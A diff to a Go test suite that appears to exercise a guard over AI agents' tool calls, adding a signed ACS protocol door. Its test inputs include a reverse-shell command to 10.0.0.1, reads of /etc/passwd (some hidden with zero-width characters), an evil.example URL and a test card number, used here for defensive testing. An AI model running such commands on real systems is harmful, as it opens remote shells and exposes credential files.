@@ -14,6 +14,7 @@ import (
 
 	"reeve.example/reeve/a2a"
 	"reeve.example/reeve/a2g"
+	"reeve.example/reeve/acs"
 	"reeve.example/reeve/act"
 	"reeve.example/reeve/aos"
 	"reeve.example/reeve/executor"
@@ -55,6 +56,7 @@ type doors struct {
 	trails string
 	rpc    http.Handler // A2G, and tasks of an engine by flow and by A2A
 	mcp    *proxy.Remote
+	acs    http.Handler
 }
 
 func newDoors(t *testing.T, text string, score func(context.Context, string, []byte) (float64, []string, bool)) *doors {
@@ -119,6 +121,8 @@ func newDoors(t *testing.T, text string, score func(context.Context, string, []b
 	var running sync.WaitGroup
 	running.Go(func() { tasks.Run(ctx) })
 	running.Go(func() { messages.Run(ctx) })
+	controls := acs.New(acs.Config{Guard: d.guard, Keys: []acs.Key{acsKey}}).Namespace()
+	d.acs = &jsonrpc.Handler{Own: &controls}
 	serve := proxy.Serve(d.guard, pins.New(d.guard, 0, 0, time.Now))
 	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		serve.ServeHTTP(w, r.WithContext(identity.NewContext(r.Context(), act.Anonymous, identity.Agent)))
@@ -133,6 +137,30 @@ func newDoors(t *testing.T, text string, score func(context.Context, string, []b
 	})
 	return d
 }
+
+// acsKey signs for the agent that asks by ACS.
+var acsKey = acs.Key{ID: "label", Agent: "a", Secret: []byte("a secret of thirty-two bytes or so")}
+
+// control asks by ACS, in a session that is begun first where it is not yet.
+func (d *doors) control(door, method, payload string) {
+	d.Helper()
+	session := fmt.Sprintf("00000000-0000-4000-8000-%012d", len(door))
+	for _, q := range [][3]string{
+		{"1", "handshake/hello", `{"acs_versions_supported":["0.1.0"],"methods_implemented":["steps/toolCallRequest","steps/toolCallResult","protocols/MCP/*"],"transports_supported":["http"],"provenance_producer":"none"}`},
+		{"2", method, payload},
+	} {
+		signed, err := acsKey.Sign(fmt.Appendf(nil, `{"jsonrpc":"2.0","id":%d,"method":%q,"params":{"acs_version":"0.1.0","request_id":%q,"timestamp":%q,"metadata":{"agent_id":"did:aeon:a","session_id":%q,"turn_id":"t"},"payload":%s}}`,
+			d.n, q[1], acsID(q[0], d.n), time.Now().UTC().Format(time.RFC3339), session, q[2]))
+		if err != nil {
+			d.Fatal(err)
+		}
+		if status, answer := ask(d.acs, act.Anonymous, "", "POST", "/acs", string(signed)); status != 200 || strings.Contains(answer, `"error":{`) {
+			d.Fatalf("%s: %d %s", q[1], status, answer)
+		}
+	}
+}
+
+func acsID(of string, n int) string { return fmt.Sprintf("%s0000000-0000-4000-8000-%012d", of, n) }
 
 // givesNothing is an executor by its id.
 type givesNothing string
@@ -157,7 +185,7 @@ func isExecutor(tool string) bool {
 var toolNames = []string{"deploy_app", "run_shell", "write_file", "http_request", "Ｗｉｐｅ", "read file"}
 
 // doorNames are the doors by which a tool is called.
-var doorNames = []string{"aos", "aos mcp", "proxy", "proxy http", "a2g", "hook", "hook mcp", "flow", "a2a"}
+var doorNames = []string{"aos", "aos mcp", "proxy", "proxy http", "a2g", "hook", "hook mcp", "flow", "a2a", "acs", "acs mcp"}
 
 // takes reports whether a tool can be called by a door under its own name: tasks are
 // for executors, and a hook calls the tools that all coding agents have by one name.
@@ -236,6 +264,14 @@ func (d *doors) ask(door, tool, arguments string) {
 			}
 			return fmt.Sprintf(`"method":"steps/toolCallRequest","params":{%s,"toolCallRequest":{"executionId":"x-%d","toolId":%q,"inputs":[%s]}}`, d.frame(door), d.n, tool, strings.Join(inputs, ","))
 		},
+		"acs": func() string {
+			doc, _ := rawjson.Parse([]byte(arguments))
+			var values []string
+			for name, v := range doc.Root().Members() {
+				values = append(values, fmt.Sprintf(`%s:{"value":%s}`, rawjson.Quote(name), v.Raw()))
+			}
+			return fmt.Sprintf(`steps/toolCallRequest {"tool":{"name":%q},"arguments":{%s}}`, tool, strings.Join(values, ","))
+		},
 		"mcp": func() string {
 			return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":%q,"arguments":%s}}`, d.n, tool, arguments)
 		},
@@ -287,6 +323,13 @@ func (d *doors) decide(door string, forms map[string]func() string, question *pr
 		if status, answer := ask(d.rpc, act.Anonymous, identity.Agent, "POST", "/", string(request(forms["a2g"]()))); status != 200 || strings.Contains(answer, `"error":{`) && !strings.Contains(answer, `"verdict":"DENIED"`) {
 			d.Fatalf("%d %s", status, answer)
 		}
+		return
+	case "acs":
+		method, body, _ := strings.Cut(forms["acs"](), " ")
+		d.control(door, method, body)
+		return
+	case "acs mcp":
+		d.control(door, "protocols/MCP/tools/call", forms["mcp"]())
 		return
 	case "hook", "hook mcp":
 		event, err := hook.Read("claude-code", "", []byte(forms["hook"]()))
@@ -365,11 +408,14 @@ func TestDoors(t *testing.T) {
 			tool := pick(toolNames...)
 			arguments := pick(`{}`, `{"command":"ls"}`, `{"command":"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}`, `{"path":"/etc/passwd","n":1.50}`,
 				`{"path":"/tmp/x","content":"card 4000 0000 0000 0002"}`, `{"Path":"/etc/passwd"}`, `{"pa\u200bth":"/etc/pass\u200bwd"}`,
-				`{"note":{"to":["a card","4000 0000 0000 0002"]},"path":["/etc/passwd"],"big":123456789012345678901234567890,"e":1e400}`, `{"url":"https://evil.example/x"}`, `{"command":"sudo id","deep":{"a":[1,{"b":"\u0061"}]}}`)
+				`{"note":{"to":["a card","4000 0000 0000 0002"]},"path":["/etc/passwd"],"big":123456789012345678901234567890,"e":1e400}`, `{"note":{"to":["a card","4000 0000 0000 0002"]},"path":["/etc/passwd"]}`, `{"url":"https://evil.example/x"}`, `{"command":"sudo id","deep":{"a":[1,{"b":"\u0061"}]}}`)
 			want := d.call(doorNames[0], tool, arguments)
 			edited += len(want.Edits)
 			calls++
 			for _, door := range doorNames[1:] {
+				if strings.HasPrefix(door, "acs") && strings.Contains(arguments, "big") {
+					continue // a signature is of doubles: what they do not hold is refused
+				}
 				if !takes(door, tool) || (ofTasks(door) || door == "a2g") && slices.Contains(want.Codes, policy.CodeUnenforced) {
 					continue // what nobody holds elsewhere, a task's executor does, and who asks by A2G is told
 				}
@@ -503,6 +549,9 @@ func (d *doors) result(door, text string) {
 	d.decide(door, map[string]func() string{
 		"aos": func() string {
 			return fmt.Sprintf(`"method":"steps/toolCallResult","params":{%s,"executionId":"x-%d","result":{"outputs":[{"kind":"text","text":%q}],"isError":false}}`, d.frame(door), called, text)
+		},
+		"acs": func() string {
+			return fmt.Sprintf(`steps/toolCallResult {"tool":{"name":"deploy_app"},"exit_status":"success","outputs":[{"value":%q}],"request_id_ref":%q}`, text, acsID("2", called))
 		},
 		"mcp": func() string {
 			return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"result":{"content":[{"type":"text","text":%q}]}}`, called, text)
